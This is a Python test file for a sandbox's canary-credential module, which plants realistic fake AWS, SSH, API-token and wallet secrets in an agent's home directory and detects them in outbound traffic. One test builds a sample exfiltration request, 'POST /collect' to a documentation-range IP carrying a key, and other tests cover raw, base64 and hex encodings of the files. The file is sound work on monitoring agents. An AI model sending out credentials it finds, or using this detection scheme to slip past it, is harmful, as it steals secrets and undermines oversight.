"""Canary credentials: unique, realistic, recorded, and recognised in outbound bytes."""

from __future__ import annotations

import base64
import binascii
import hashlib
import json
import os
import re
import shutil
import subprocess
import zlib
from pathlib import Path

import pytest

from corral.errors import CorralError
from corral.sandbox import canaries
from corral.sandbox.canaries import BASE58, BASE62, Canary, find_secret, load, plant, save

pytestmark = pytest.mark.skipif(shutil.which("ssh-keygen") is None, reason="needs ssh-keygen")

UID = os.getuid()
GID = os.getgid()


def _plant(tmp_path: Path, name: str = "home") -> list[Canary]:
    home = tmp_path / name
    home.mkdir()
    return plant(home, UID, GID)


def _by_kind(planted: list[Canary]) -> dict[str, Canary]:
    return {c.kind: c for c in planted}


def test_plants_every_kind_at_its_usual_place(tmp_path: Path) -> None:
    planted = _by_kind(_plant(tmp_path))
    assert {k: c.sandbox_path for k, c in planted.items()} == {
        "aws_credentials": "/home/agent/.aws/credentials",
        "ssh_private_key": "/home/agent/.ssh/id_ed25519",
        "dotenv": "/home/agent/.env",
        "crypto_wallet": "/home/agent/.electrum/wallets/default_wallet",
    }
    home = tmp_path / "home"
    for canary in planted.values():
        assert canary.path == home / canary.sandbox_path.removeprefix("/home/agent/")
        assert canary.path.stat().st_mode & 0o777 == 0o600
        assert all(secret.encode() in canary.path.read_bytes() for secret in canary.secrets)
    assert (home / ".ssh").stat().st_mode & 0o777 == 0o700
    assert (home / ".ssh/id_ed25519.pub").is_file() and (home / ".ssh/known_hosts").is_file()


@pytest.mark.skipif(os.geteuid() != 0, reason="chown to another uid needs root")
def test_files_belong_to_the_given_owner(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    plant(home, 65534, 65534)
    for path in home.rglob("*"):
        assert (path.stat().st_uid, path.stat().st_gid) == (65534, 65534), path


def test_every_sandbox_gets_its_own_secrets(tmp_path: Path) -> None:
    first = {s for c in _plant(tmp_path, "a") for s in c.secrets}
    second = {s for c in _plant(tmp_path, "b") for s in c.secrets}
    assert len(first) >= 10 and not first & second


def test_aws_credentials_look_real(tmp_path: Path) -> None:
    text = _by_kind(_plant(tmp_path))["aws_credentials"].path.read_text()
    assert re.fullmatch(r"\[default\]\naws_access_key_id = AKIA[A-Z2-7]{16}\n"
                        r"aws_secret_access_key = [A-Za-z0-9/+]{40}\nregion = [a-z0-9-]+\n", text)


def test_ssh_key_is_a_valid_ed25519_key(tmp_path: Path) -> None:
    key = _by_kind(_plant(tmp_path))["ssh_private_key"].path
    derived = subprocess.run(["ssh-keygen", "-y", "-f", str(key)], capture_output=True, text=True, check=True)
    public = key.with_name("id_ed25519.pub").read_text()
    assert derived.stdout.split()[:2] == public.split()[:2]
    assert public.split()[0] == "ssh-ed25519" and public.split()[2] == "agent@sandbox"
    known = subprocess.run(["ssh-keygen", "-l", "-f", str(key.with_name("known_hosts"))],
                           capture_output=True, text=True, check=True)
    assert "198.51.100." in known.stdout and "(ED25519)" in known.stdout  # a documentation-range host


def test_dotenv_tokens_look_real(tmp_path: Path) -> None:
    lines = _by_kind(_plant(tmp_path))["dotenv"].path.read_text().splitlines()
    env = dict(line.split("=", 1) for line in lines if "=" in line)
    assert re.fullmatch(r"sk-proj-[\w-]{48}T3BlbkFJ[\w-]{48}", env["OPENAI_API_KEY"])
    assert re.fullmatch(r"sk-ant-api03-[\w-]{93}AA", env["ANTHROPIC_API_KEY"])
    assert re.fullmatch(r"hf_[A-Za-z]{34}", env["HF_TOKEN"])
    assert env["DATABASE_URL"].startswith("postgres://app:")
    token = env["GITHUB_TOKEN"]
    assert re.fullmatch(r"ghp_[0-9A-Za-z]{36}", token)
    # GitHub's check digits: base62 of the CRC32 of the 30 random characters.
    assert _base62_int(token[-6:]) == zlib.crc32(token[4:-6].encode())


def test_wallet_looks_real(tmp_path: Path) -> None:
    wallet = json.loads(_by_kind(_plant(tmp_path))["crypto_wallet"].path.read_text())
    keystore = wallet["keystore"]
    assert len(keystore["seed"].split()) == 12 and set(keystore["seed"].split()) <= set(canaries._WORDS)
    for field, prefix in (("xprv", "zprv"), ("xpub", "zpub")):
        assert keystore[field].startswith(prefix)
        raw = _base58_int(keystore[field]).to_bytes(82, "big")
        assert hashlib.sha256(hashlib.sha256(raw[:78]).digest()).digest()[:4] == raw[78:]


def test_find_secret_in_a_larger_payload(tmp_path: Path) -> None:
    planted = _plant(tmp_path)
    aws = _by_kind(planted)["aws_credentials"]
    key_id = aws.secrets[0]
    request = b"POST /collect HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\nuser=x&k=" + key_id.encode() + b"&z=1"
    assert find_secret(request, planted) is aws
    # Whole files sent as they are, or base64/hex-encoded at any offset.
    for canary in planted:
        content = canary.path.read_bytes()
        assert find_secret(b"HEAD" + content + b"TAIL", planted) is canary
        for prefix in (b"", b"x", b"xy"):
            assert find_secret(b"d=" + base64.b64encode(prefix + content), planted) is canary
        assert find_secret(binascii.hexlify(content), planted) is canary


def test_find_secret_ignores_clean_data(tmp_path: Path) -> None:
    planted = _plant(tmp_path)
    other = _plant(tmp_path, "other")
    clean = [b"", b"GET / HTTP/1.1\r\nHost: pypi.org\r\n\r\n", os.urandom(4096),
             (tmp_path / "home/.ssh/id_ed25519.pub").read_bytes(),  # the public key is no secret
             b"".join(c.path.read_bytes() for c in other)]          # another sandbox's canaries
    for data in clean:
        assert find_secret(data, planted) is None


def test_save_and_load_round_trip(tmp_path: Path) -> None:
    planted = _plant(tmp_path)
    record = tmp_path / "canaries.json"
    save(planted, record)
    assert record.stat().st_mode & 0o777 == 0o600
    assert load(record) == planted


def test_load_rejects_what_save_did_not_write(tmp_path: Path) -> None:
    bad = tmp_path / "bad.json"
    short = '{"canaries": [{"path": "/x", "sandbox_path": "/x", "kind": "k", "secrets": "AKIAXXXXXXXXXXXXXXXX"}]}'
    for text in ("not json", "{}", '{"canaries": [{"path": "/x"}]}', short):
        bad.write_text(text)
        with pytest.raises(CorralError, match=str(bad)):
            load(bad)


def test_planting_never_follows_the_agents_symlinks(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "credentials").write_text("precious\n")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".aws").symlink_to(victim)
    (home / ".env").symlink_to(victim / "credentials")
    plant(home, UID, GID)
    assert (victim / "credentials").read_text() == "precious\n"
    assert not (home / ".aws").is_symlink() and not (home / ".env").is_symlink()


def test_secrets_are_long_enough_to_match_safely(tmp_path: Path) -> None:
    assert all(len(s) >= 20 for c in _plant(tmp_path) for s in c.secrets)


def _base62_int(text: str) -> int:
    n = 0
    for ch in text:
        n = n * 62 + BASE62.index(ch)
    return n


def _base58_int(text: str) -> int:
    n = 0
    for ch in text:
        n = n * 58 + BASE58.index(ch)
    return n
